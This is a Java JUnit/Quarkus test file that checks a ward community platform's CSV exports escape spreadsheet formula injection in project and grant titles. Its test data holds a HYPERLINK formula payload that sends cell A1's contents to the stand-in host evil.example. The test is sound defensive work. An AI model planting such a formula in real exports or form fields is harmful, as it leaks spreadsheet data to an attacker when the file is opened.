package jp.wardhub.community;

import static jp.wardhub.community.CommunitySteps.application;
import static jp.wardhub.community.CommunitySteps.apply;
import static jp.wardhub.community.CommunitySteps.chuoGroup;
import static jp.wardhub.community.CommunitySteps.chuoProgram;
import static jp.wardhub.testing.Accounts.as;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.regex.Matcher;

import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;

/** Titles a spreadsheet would run as formulas leave the community exports as text (a leading single quote). */
@QuarkusTest
class CsvInjectionExportTest {

    private static final String FORMULA_JSON = "=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")";
    private static final String NEUTRALISED_CSV = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")";

    @Test
    void projectTitles() {
        String marker = CommunitySteps.unique("式");
        ProjectSteps.id(ProjectSteps.create("chuo", ProjectSteps.project(FORMULA_JSON + " " + marker, "PUBLIC", ""))
                .response());
        ProjectSteps
                .id(ProjectSteps.create("chuo", ProjectSteps.project("@SUM(1+1) " + marker, "PUBLIC", "")).response());
        String csv = csv("/api/v1/community/projects/export.csv?q=" + marker.split(" ")[1]);
        assertTrue(csv.contains(NEUTRALISED_CSV) && csv.contains("\"'@SUM(1+1) "), csv);
        assertFalse(csv.contains(",\"=") || csv.contains(",\"@"), csv);
    }

    @Test
    void grantApplicationTitles() {
        long program = chuoProgram(900_000);
        long application = CommunitySteps.id(apply("chuo", program, application(chuoGroup(), 100_000, 50_000)
                .replaceFirst("\"title\":\"[^\"]+\"", Matcher.quoteReplacement("\"title\":\"" + FORMULA_JSON + "\""))));
        CommunitySteps.act("chuo", application, "submit", "{}").then().statusCode(200);
        String csv = csv("/api/v1/community/grants/export.csv?program=" + program);
        assertTrue(csv.contains(NEUTRALISED_CSV), csv);
        assertFalse(csv.contains(",\"=HYPERLINK"), csv);
    }

    private static String csv(String url) {
        return new String(as("admin").get(url).then().statusCode(200).extract().asByteArray(), StandardCharsets.UTF_8);
    }
}
